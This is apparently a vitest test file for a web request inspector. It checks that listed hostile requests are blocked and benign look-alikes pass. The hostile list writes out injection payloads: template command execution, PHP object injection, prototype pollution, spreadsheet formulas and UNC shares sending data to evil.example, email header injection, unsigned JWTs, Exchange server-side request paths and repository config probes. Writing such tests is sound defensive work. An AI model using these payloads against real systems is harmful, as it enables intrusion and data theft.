import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../benchmarks/traffic/policies.ts';
import { type HeaderField, type InspectedRequest, inspect } from '../index.ts';
import { encodeLatin1, post, query, request } from '../testing/requests.ts';

const policy = policyOf('medium');
const decided = (one: InspectedRequest) => inspect(policy, one).decision;
const json = (value: unknown) => post('application/json', JSON.stringify(value));
const form = (value: string) => post('application/x-www-form-urlencoded', `note=${encodeLatin1(value)}`);
const get = (target: string, ...headers: HeaderField[]) =>
  request({ target, headers: [['host', 'shop.example.com'], ...headers] });
const upload = (filename: string) =>
  post(
    'multipart/form-data; boundary=b',
    `--b\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\n\r\nx\r\n--b--\r\n`,
  );
const token = (header: object) =>
  `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from('{"sub":"admin"}').toString('base64url')}.`;
const share = (host: string) => String.raw`\\${host}\share\x.png`;

const hostile: Readonly<Record<string, InspectedRequest>> = {
  'a magic method as a value': post('application/x-www-form-urlencoded', 'a=1&_method=__construct'),
  'a magic method as a name': json({ updates: { count: [{ __toString: 'x' }] } }),
  'a behaviour of Yii': json({ handle: { 'as session': { class: 'craft\\behaviors\\Field' } } }),
  'a handler of Yii': json({ 'on afterSave': { __class: 'GuzzleHttp\\Psr7\\FnStream' } }),
  'a reference of Flight': json(['$1:a:constructor:constructor']),
  'a reference of Flight to a prototype': form('$a:x:__proto__'),
  'an exception of Wazuh': json({ __unhandled_exc__: { __class__: 'exit' } }),
  'globals of Python': json({ __globals__: { os: 1 } }),
  'a PHP object in a session, its quotes escaped': upload('x|O:16:\\"Crypt_GPG_Engine\\":1:{s:1:\\"a\\";}'),
  'a method of Go': query('{{$.Exec "whoami"}}'),
  'a method of Go behind printf': query('{{ printf "%s" (call .System "id") }}'),
  'a share of a public address': json({ icon: share('203.0.113.9') }),
  'a share over WebDAV': query(share('evil.example@SSL@443')),
  'a further recipient': json({ notes: 'a@shop.example\r\nBcc: b@evil.example' }),
  'a formula that tells': form('=HYPERLINK("https://evil.example/?l="&A1,"x")'),
  'a formula that fetches': form('=WEBSERVICE("http://evil.example/?d="&CONCAT(A1,B1))'),
  'an option of PHP': get('/?--env=local'),
  'an option of Craft': get('/index.php?--templatesPath=ftp://evil.example'),
  'an unsigned token': get('/me', ['authorization', `Bearer ${token({ alg: 'none' })}`]),
  'an unsigned token in a cookie': get('/me', ['cookie', `t=${token({ typ: 'JWT', alg: 'None' })}`]),
  'a server behind Exchange': get('/ecp/a.js', ['cookie', 'X-BEResource=localhost/owa/x.js~1942062522']),
  'an interface behind Exchange': get('/autodiscover/autodiscover.json?a=x@corp.example/powershell/'),
  'a role of CouchDB': json({ name: 'x', roles: ['_admin'] }),
  'a letter encoded twice': get('/%2577ebui_wsma_http'),
  'settings of a pipeline at the root': get('/.gitlab-ci.yml'),
  'a repository behind a word of forges': get('/blob/.git/config'),
};

const harmless: Readonly<Record<string, InspectedRequest>> = {
  'a magic method in a sentence': form('call __construct from the parent class'),
  'a class of markup': json({ class: 'block__element', 'as expected': { class: 'b' } }),
  'amounts of money': json(['$1:00 to $2:30', 'constructor set']),
  'a reference of Flight to a field': json(['$1:items:0:id']),
  'a chart of Helm': form('{{ printf "%s-%s" .Release.Name "web" }}{{ .Files.Get "a.ini" }}'),
  'a share by name': json({ text: share('fileserver') }),
  'an address and a sentence': json({ notes: 'a@shop.example\ncc me if you can' }),
  'a formula that links': form('=HYPERLINK("https://shop.example.com/a","Shop")'),
  'a sentence behind an at sign': form('@import of goods: webservice (API)'),
  'properties of a style': get('/theme?--primary=%23ff0000&--radius=4px'),
  'a signed token': get('/me', ['authorization', `Bearer ${token({ alg: 'RS256' })}c2ln`]),
  'an unsigned request object': get(`/authorize?request=${token({ alg: 'none' })}`),
  'a cookie of Exchange': get('/owa/', ['cookie', 'X-BackEndCookie=S-1-5-21=u56Lnp2ejJqByM']),
  'an address in a search': get('/search?q=bob@corp.example/sales'),
  'roles of users': json({ roles: ['admin', 'editor'] }),
  'a percent sign encoded': get('/wiki/100%25_cotton'),
  'settings of a pipeline in a forge': get('/api/v4/projects/1/repository/files/.gitlab-ci.yml'),
  'a file of a forge': get('/acme/shop/-/blob/main/docker-compose.yml'),
};

describe('names and values that some product acts on', () => {
  test.each(Object.entries(hostile))('blocks %s', (_name, one) => {
    expect(decided(one)).toBe('block');
  });
  test.each(Object.entries(harmless))('passes %s', (_name, one) => {
    expect(decided(one)).toBe('pass');
  });
});
